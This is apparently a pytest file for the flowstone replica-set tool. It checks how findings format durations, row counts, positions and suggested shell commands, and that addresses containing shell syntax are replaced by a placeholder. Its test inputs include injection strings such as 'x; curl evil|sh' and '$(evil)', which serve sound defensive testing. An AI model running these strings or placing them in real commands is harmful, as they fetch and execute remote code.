"""Findings format positions, counts and times uniformly."""

from __future__ import annotations

import pytest

from flowstone.observation.findings.wording import (
    call,
    expel,
    expel_command,
    for_command,
    position,
    promote,
    rows_text,
    seconds_text,
    set_option,
    set_replication_again,
)
from flowstone.observation.replica_set import Member, ReplicaSet, replica_sets
from tests.observation.reports import report, upstream, uuid

EVIL = "x; curl evil|sh #:1"


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.04, "0.0 s"), (3.21, "3.2 s"), (59.6, "60 s"), (150, "2 min"), (7200, "2.0 h"), (200_000, "2.3 days")],
)
def test_duration_is_shown_in_a_readable_unit(seconds: float, text: str) -> None:
    assert seconds_text(seconds) == text


def test_commands_are_quoted_for_a_shell() -> None:
    assert set_option("db1:3301", "read_only", False) == "`flowstone config db1:3301 read_only=false`"
    quorum = set_option("db1:3301", "replication_synchro_quorum", "N / 2 + 1")
    assert quorum == "`flowstone config db1:3301 'replication_synchro_quorum=N / 2 + 1'`"
    assert call(EVIL, "f", "a b", "it's", "`evil`") == "`flowstone call URI f 'a b' 'it'\"'\"'s' ARGUMENT`"
    assert set_replication_again(EVIL) == "`flowstone config URI --reconnect`"


def test_one_row_is_singular() -> None:
    assert (rows_text(1), rows_text(2)) == ("1 row", "2 rows")


def test_a_position_is_sorted_by_replica() -> None:
    assert position({2: 3, 1: 10}) == "{1: 10, 2: 3}"


@pytest.mark.parametrize(
    "address",
    ["db1:3301", "10.0.0.1:3301", "[fe80::1%eth0]:3301", "my_db-1.example.org:1", "unix/:/run/tarantool/a-1.sock"],
)
def test_address_in_a_command_is_unchanged(address: str) -> None:
    assert for_command(address) == address


@pytest.mark.parametrize(
    "address",
    [
        *(None, "", EVIL, "$(evil):1", "a b:1", "a'b:1", "a:1\n", "a&:1", "a>b:1", "~:1", "a\\b:1"),
        *("--force:1", "/etc/passwd", "unix/:", "unix/:/a b", "unix/:/$(evil)"),
    ],
)
def test_command_omits_addresses_that_a_shell_would_split(address: str | None) -> None:
    assert for_command(address) == "URI"


def test_commands_contain_no_address_with_shell_syntax() -> None:
    told = report(1, {1: 3}, {2: {"upstream": upstream(2, peer=EVIL)}})
    (one,) = replica_sets([told])
    member = one.member(uuid(2))
    assert member is not None
    assert member.address == EVIL
    assert promote(member) == "`flowstone promote URI`"
    assert expel(one, member) == "expel it: `flowstone expel db1:3301 2`"
    answers = Member(uuid=uuid(1), id=1, address="unix/:/tmp/a; evil", report=told)
    assert expel_command(ReplicaSet(uuid=None, members=(answers, member)), member) == "`flowstone expel URI 2`"


def test_expel_advice_requires_a_writable_member_first() -> None:
    (one,) = replica_sets([report(1, {1: 3}, {2: {}}, ro=True)])
    assert expel(one, one.member(uuid(2))) == "expel it as soon as a member is writable: `flowstone expel db1:3301 2`"
